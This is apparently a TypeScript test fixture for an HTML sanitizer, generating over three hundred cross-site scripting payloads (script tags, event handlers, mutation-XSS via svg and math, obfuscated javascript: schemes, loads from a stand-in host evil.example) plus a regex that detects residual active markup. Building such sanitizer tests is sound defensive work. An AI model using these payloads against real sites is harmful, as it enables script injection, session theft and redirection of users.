/** Ways to bring a page to life, from public lists of them: each is put in every text that people write with a layout. */
const CONNUES = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><set attributeName=onload to=alert(1)></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<p><p><p><!--><img src=x onerror=alert(1)>-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example><style>@import "//evil.example"</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
  '<applet code=x></applet>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<form action="https://evil.example"><input name=nir></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="filesystem:https://evil.example/x">x</a>',
  '<a href="intent://x#Intent;scheme=http;end">x</a>',
  '<a href="#" ping="https://evil.example">x</a>',
  '<a href="https://horizon.example" target=_top download>x</a>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png" alt=x>',
  '<img srcset="https://evil.example/a 1x" src=x>',
  '<img src="/a.png" longdesc="javascript:alert(1)" usemap="#m" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</td></tr></table>',
  '<td onmouseover=alert(1)>x</td>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p class="MuiButton-root primaire" id="root" name="getElementById">x</p>',
  '<span style="font-family:expression(alert(1))">x</span>',
  '<span style="font-family:Arial;background:url(//evil.example)">x</span>',
  '<span style="font-family:\'</style><script>alert(1)</script>\'">x</span>',
  '<span style="font-family:Arial, url(//evil.example)">x</span>',
  '<span style="-moz-binding:url(//evil.example)">x</span>',
  '<p is="x-p" slot="x" part="x">x</p>',
  '<x-custom onclick=alert(1) tabindex=1>x</x-custom>',
  '<p contenteditable onpaste=alert(1) accesskey=x>x</p>',
  '<p data-x="\'><script>alert(1)</script>">x</p>',
  '{{constructor.constructor("alert(1)")()}}<img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;<b onclick=alert(1)>x</b>',
  '\u0000<script\u0000>alert(1)</script>'.replaceAll('\u0000', ''),
  '＜script＞alert(1)＜/script＞<u onclick=alert(1)>x</u>',
] as const;

const EVENEMENTS = [
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut',
  'onbeforeinput onbeforematch onbeforepaste onbeforetoggle onbeforeunload onblur oncancel oncanplay onchange onclick',
  'onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover',
  'ondragstart ondrop onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange onhashchange oninput',
  'oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart onmessage onmousedown onmouseenter onmouseleave',
  'onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying',
  'onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate onpointerup onpopstate onprogress',
  'onrepeat onreset onresize onscroll onscrollend onsearch onseeked onselect onselectionchange onselectstart onshow',
  'onsubmit ontoggle ontouchend ontouchmove ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload',
  'onvolumechange onwebkitanimationend onwebkitmouseforceup onwebkittransitionend onwheel',
]
  .join(' ')
  .split(' ');
/** One tag a handler, by turns: those that content may hold, and others. */
const PORTEURS = [
  'p',
  'a',
  'span',
  'img src=x',
  'td',
  'strong',
  'li',
  'h4',
  'svg',
  'body',
  'input autofocus',
];
/** What stands between a tag and its handler. */
const SEPARATEURS = [' ', '/', '\n', '\t', '\f', '/ ', ' \u00a0 x '];

const GESTES = EVENEMENTS.map((nom, rang) => {
  const porteur = PORTEURS[rang % PORTEURS.length] ?? 'p';
  const entre = SEPARATEURS[rang % SEPARATEURS.length] ?? ' ';
  const dit = rang % 3 === 0 ? nom.toUpperCase() : nom;
  return `<${porteur}${entre}${dit}=alert(1)>x</${porteur.split(' ', 1)[0]}>`;
});

const SCHEMES = ['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'livescript', 'mocha', 'file', 'jar'];
/** How a scheme is hidden from who looks for it. */
const DEGUISE: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:alert(1)`,
  (scheme) => `${scheme}&colon;alert(1)`,
  (scheme) => `${scheme}&#58;alert(1)`,
  (scheme) => `${scheme}&#x3a;alert(1)`,
  (scheme) => ` &#14; ${scheme}:alert(1)`,
  (scheme) => `\u0001${scheme}:alert(1)`.replace('\u0001', '&#1;'),
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:alert(1)`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}:alert(1)`,
  (scheme) => `${scheme.slice(0, 2)}\n${scheme.slice(2)}:alert(1)`,
  (scheme) => `${[...scheme].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}:alert(1)`,
  (scheme) => `${[...scheme].map((letter) => `&#0000${letter.charCodeAt(0)}`).join('')}:alert(1)`,
  (scheme) => `https:${scheme}:alert(1)`,
];
const ADRESSES = SCHEMES.flatMap((scheme) =>
  DEGUISE.map((deguise, rang) =>
    rang % 4 === 3 ? `<img src="${deguise(scheme)}" alt="x">` : `<a href="${deguise(scheme)}">x</a>`,
  ),
);

/** What browsers read as other markup than it was written as: foreign elements in each other, closed by surprise. */
const ETRANGERES = ['svg', 'math'].flatMap((racine) =>
  ['style', 'title', 'desc', 'mtext', 'annotation-xml', 'foreignObject', 'textarea', 'noscript'].flatMap(
    (dedans) => [
      `<${racine}><${dedans}><img src=x onerror=alert(1)></${dedans}></${racine}>`,
      `<${racine}><${dedans}><!--</${dedans}><img src=x onerror=alert(1)>--></${racine}>`,
      `<p><${racine}><${dedans}></p><a title="</${dedans}><img src=x onerror=alert(1)>">x</a>`,
    ],
  ),
);

/** More than three hundred ways to write what must never run. */
export const CHARGES: readonly string[] = [...new Set([...CONNUES, ...GESTES, ...ADRESSES, ...ETRANGERES])];

/** Those that hold a sign which no text of the portal does: they are refused where they are written. */
export const isRefusee = (charge: string): boolean =>
  !charge.isWellFormed() || /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/.test(charge);

/** What is still alive in a content that was cleaned: nothing of it may be there once its texts are left out. */
const VIVANT =
  /<(?!\/?(?:p|h[456]|a|ul|ol|li|strong|em|img|br|span|table|caption|thead|tbody|tr|th|td)[\s>/])[a-z!?]|[\s/]on\w+\s*=|javascript:|vbscript:|data:|evil\.example|expression|\\/i;

/** What of a cleaned content could still do something; nothing where it is only text with a layout. */
export function vivantDans(html: string): string | null {
  // Texts, where `<` and `>` are always escaped, say what they want.
  const balises = html.match(/<[^>]*>/g)?.join('') ?? '';
  return VIVANT.exec(balises)?.[0] ?? null;
}
